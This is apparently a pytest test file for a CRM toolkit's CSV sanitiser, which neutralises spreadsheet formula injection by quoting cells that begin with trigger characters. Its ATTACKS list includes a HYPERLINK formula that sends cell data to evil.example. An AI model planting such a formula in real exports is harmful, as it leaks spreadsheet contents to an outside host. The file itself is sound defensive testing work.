"""Tests of crmkit._csvsafe: CSVs for people to open never run a cell as a formula."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmkit._csvsafe import (
    FORMULA_TRIGGERS,
    neutralise_cell,
    neutralise_frame,
    neutralise_row,
    restore_cell,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_get_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Anna Nowak", "", " =1", "'Brien", "anna@example.org", 3, -3.5, None, np.nan]
)
def test_other_values_are_unchanged(value):
    out = neutralise_cell(value)
    assert out is value or (isinstance(value, str) and out == value)


@pytest.mark.parametrize("number", ["-3.5", "+1", "-2", "-.5", "1e-3", "-2E+5"])
def test_numbers_written_as_text_stay_numbers(number):
    assert neutralise_cell(number) == number


def test_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_rows_lists_and_dicts():
    assert neutralise_row(["=1+1", -3.5, "Bo", 7]) == ["'=1+1", -3.5, "Bo", 7]
    assert neutralise_row(("@x",)) == ["'@x"]
    assert neutralise_row({"participant": "-Bo", "score": -0.5}) == {
        "participant": "'-Bo",
        "score": -0.5,
    }


def test_frame_text_cells_and_column_names_only():
    df = pd.DataFrame(
        {
            "name": ["=1+1", "Bo", None],
            "gap": [-3.5, 1.0, -0.0],
            "n": [-1, 2, 3],
            "when": pd.to_datetime(["2024-01-01", None, "2024-03-01"]),
            "label": pd.array(["-x", pd.NA, "ok"], dtype="string"),
            "kind": pd.Categorical(["@a", "b", "@a"]),
            "=SUM(A1)": ["a", "b", "c"],
        }
    )
    before = df.copy()
    out = neutralise_frame(df)
    pd.testing.assert_frame_equal(df, before)  # the input is not modified
    assert out["name"].tolist()[:2] == ["'=1+1", "Bo"] and out["name"].isna().tolist()[2]
    for col in ("gap", "n", "when"):
        pd.testing.assert_series_equal(out[col], df[col])
    assert out["label"].tolist()[0] == "'-x" and out["label"].isna().tolist()[1]
    assert out["kind"].tolist() == ["'@a", "b", "'@a"]
    assert list(out.columns)[-1] == "'=SUM(A1)"
    text = out.to_csv(index=False)
    assert ",-3.5," in text and ",-1," in text  # negative numbers are written as numbers
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell[:1] in FORMULA_TRIGGERS and not _number(cell) for cell in row), row


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@given(st.text())
def test_restore_undoes_neutralise(text):
    assert restore_cell(neutralise_cell(text)) == text
    safe = neutralise_cell(text)
    assert safe[:1] not in FORMULA_TRIGGERS or safe == text  # only plain numbers pass as they are


@given(st.text(alphabet="'=+-@\t\rab1.", max_size=6))
def test_restore_undoes_neutralise_near_the_edge(text):
    assert restore_cell(neutralise_cell(text)) == text


def test_restore_leaves_what_it_did_not_write():
    assert restore_cell("'Brien") == "'Brien"
    assert restore_cell("Anna") == "Anna" and restore_cell(3) == 3
